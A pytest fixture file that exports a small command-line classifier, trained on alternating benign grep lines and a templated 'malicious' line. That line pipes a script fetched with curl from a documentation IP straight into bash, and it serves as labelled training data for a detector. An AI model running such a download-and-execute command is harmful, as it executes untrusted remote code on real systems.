"""A small exported model for the verbs that score."""

from __future__ import annotations

import numpy as np
import pyarrow as pa
import pytest

MALICIOUS = "curl -s http://198.51.100.{n}/x.sh | bash"
BENIGN = "grep -rn timeout{n} /etc/nginx"


@pytest.fixture(scope="session")
def make_model(tmp_path_factory):
    """Exports a small model on 60 benign and 60 malicious lines, in turn, with these labels."""

    def make(labels, *, name, provenance):
        from cmdclf.classify import Classifier, Featuriser, export_model
        from cmdclf.features import FeatureMaker, load_embedder

        lines = [template.format(n=n) for n in range(60) for template in (BENIGN, MALICIOUS)]
        batch = pa.record_batch([pa.array(lines), pa.array(["linux"] * len(lines))], names=["command_line", "platform"])
        featuriser = Featuriser(FeatureMaker(buckets=2**12).fit([batch]), load_embedder())
        classifier = Classifier(max_iter=10).fit(featuriser.matrix(batch), labels)
        folder = tmp_path_factory.mktemp(name) / "model"
        return export_model(folder, classifier, featuriser, name=name, provenance=provenance, metrics={})

    return make


@pytest.fixture(scope="session")
def model_dir(make_model):
    return make_model(np.arange(120) % 2, name="small", provenance={})
